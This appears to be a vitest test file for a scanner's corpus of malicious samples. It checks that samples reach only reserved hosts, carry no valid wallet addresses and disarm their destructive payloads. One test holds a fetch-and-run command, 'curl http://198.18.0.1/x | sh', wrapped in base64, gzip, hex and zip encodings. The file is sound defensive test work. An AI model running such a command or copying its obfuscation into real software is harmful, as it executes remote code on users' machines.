import { createHash } from 'node:crypto';
import { deflateSync, gzipSync } from 'node:zlib';
import { expect, test } from 'vitest';
import { zip } from '../../../fixtures/zip.ts';
import { hexEscaped } from './bytes.ts';
import type { MaliciousSample } from './sample.ts';
import { maliciousSamples } from './samples.ts';
import { fileOf } from './saved-image.ts';
import { spellings } from './spellings.ts';

/** Names that are the technique itself; what is sent there has a token that nobody can have. */
const namesThatAreTheTechnique = [
  'metadata.google.internal',
  'kubernetes.default.svc',
  'api.telegram.org',
  'discord.com',
  'github.com',
];

/** Documentation (RFC 5737), private, link-local, loopback, any. */
const addressesOfNobody =
  /^(192\.0\.2|198\.51\.100|203\.0\.113|10\.\d+\.\d+|127\.\d+\.\d+|172\.17\.0|169\.254\.169|0\.0\.0)\.\d+$/;

const contents = maliciousSamples.map((sample) => [sample.id, textOf(sample)] as const);

test('the set is large enough to say something', () => {
  expect(maliciousSamples.length).toBeGreaterThanOrEqual(120);
  expect(new Set(maliciousSamples.map(({ id }) => id)).size).toBe(maliciousSamples.length);
  for (const level of ['easy', 'ordinary', 'hard'])
    expect(count((sample) => sample.level === level) / maliciousSamples.length).toBeGreaterThan(0.22);
  for (const { family } of maliciousSamples)
    expect(count((sample) => sample.family === family)).toBeGreaterThanOrEqual(4);
});

test.each(maliciousSamples)(
  '$id says what a finding should name',
  ({ files, config, compose, where, lines = [], technique }) => {
    expect(technique).toMatch(/\.$/);
    if (where === 'compose.yaml') {
      expect(lines).not.toEqual([]);
      for (const line of lines) expect(compose?.split('\n').some((text) => text.includes(line))).toBe(true);
    } else if (where === 'config') expect(config).toBeDefined();
    else expect(Object.keys(files)).toContain(where);
    for (const path of Object.keys(files)) expect(path).not.toMatch(/^\/|(^|\/)\.\.(\/|$)/);
  },
);

test.each(contents)('%s reaches nobody', (_, content) => {
  for (const text of spellings(content)) {
    const named = [
      ...text.matchAll(/[a-z0-9+]+:\/\/(?:[\w.-]+@)?([a-z0-9.-]*[a-z0-9])/gi),
      ...text.matchAll(
        /(?<!import )\b((?:[a-z0-9-]+\.)+(?:com|net|org|ru|cn|xyz|top|info|onion|dev|cloud|is|pw|to))\b/gi,
      ),
    ];
    for (const [, host] of named) expect(host, host).toSatisfy(isReserved);
    for (const [address] of text.matchAll(/(?<![\d.])(?:\d{1,3}\.){3}\d{1,3}(?![\d.])/g))
      expect(address).toMatch(addressesOfNobody);
  }
});

test.each(contents)('%s pays nobody', (_, content) => {
  for (const text of spellings(content)) {
    for (const [run] of text.matchAll(
      /(?<![1-9A-HJ-NP-Za-km-z])[1-9A-HJ-NP-Za-km-z]{26,64}(?![1-9A-HJ-NP-Za-km-z])/g,
    ))
      expect(hasChecksum(run), run).toBe(false);
    for (const [, letters] of text.matchAll(
      /\b(?:0x(?=[0-9a-f]{40}\b)|bc1q|kaspa:q|xch1(?=q))([0-9a-z]{38,64})\b/gi,
    ))
      expect(letters).toMatch(/^(.)\1+$/);
    for (const [, letters] of text.matchAll(/\b[48]([1-9A-HJ-NP-Za-km-z]{94})\b/g))
      expect(letters).toMatch(/^(.)\1+$/);
  }
});

test('what is wrapped is read, too', () => {
  const address = 'curl http://198.18.0.1/x | sh';
  for (const wrapped of [
    deflateSync(address).toString('base64'),
    gzipSync(address).toString('base64').split('').reverse().join(''),
    Buffer.from(Buffer.from(address, 'utf16le').toString('base64')).toString('base64'),
    zip({ 'data.pkl': address.repeat(9) }).toString('latin1'),
    hexEscaped(address),
    [...Buffer.from(address)].join(', '),
  ])
    expect(spellings(`x = "${wrapped}"`).join('\n')).toContain(address);
});

test('what would destroy ends in its first command', () => {
  const first = /^(#!.*\n)?(raise SystemExit|exit 0|const [^\n]*\nif \(true\) return|\x7fELF)/;
  for (const { id, family, files, where } of maliciousSamples)
    if (family === 'ransomware' || id === 'dos-fork-bomb')
      expect(Buffer.from(fileOf(files[where]!).content ?? '').toString('latin1'), id).toMatch(first);
});

function count(which: (sample: MaliciousSample) => boolean): number {
  return maliciousSamples.filter(which).length;
}

/** All that a sample holds, one byte a character. */
function textOf({ files, config, compose }: MaliciousSample): string {
  const parts = Object.values(files).map((file) =>
    Buffer.from(fileOf(file).content ?? '').subarray(0, 1 << 16),
  );
  return [...parts.map((part) => part.toString('latin1')), JSON.stringify(config ?? {}), compose ?? ''].join(
    '\n',
  );
}

/** @see https://www.rfc-editor.org/rfc/rfc2606, RFC 6761, RFC 5737 */
function isReserved(host: string): boolean {
  const name = host.toLowerCase();
  if (/^\d+(\.\d+){3}$/.test(name)) return addressesOfNobody.test(name);
  return (
    namesThatAreTheTechnique.includes(name) || !name.includes('.') || /(^|\.)(invalid|localhost)$/.test(name)
  );
}

/** Whether the last four bytes are those of a Bitcoin address, or of one of the many that do as it does. */
function hasChecksum(base58: string): boolean {
  const alphabet = '123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz';
  let value = 0n;
  for (const letter of base58) value = value * 58n + BigInt(alphabet.indexOf(letter));
  const digits = value.toString(16);
  const zeros = /^1*/.exec(base58)![0].length;
  const bytes = Buffer.concat([
    Buffer.alloc(zeros),
    Buffer.from(digits.length % 2 ? `0${digits}` : digits, 'hex'),
  ]);
  const sum = sha256(sha256(bytes.subarray(0, -4))).subarray(0, 4);
  return bytes.length > 4 && sum.equals(bytes.subarray(-4));
}

function sha256(bytes: Buffer): Buffer {
  return createHash('sha256').update(bytes).digest();
}
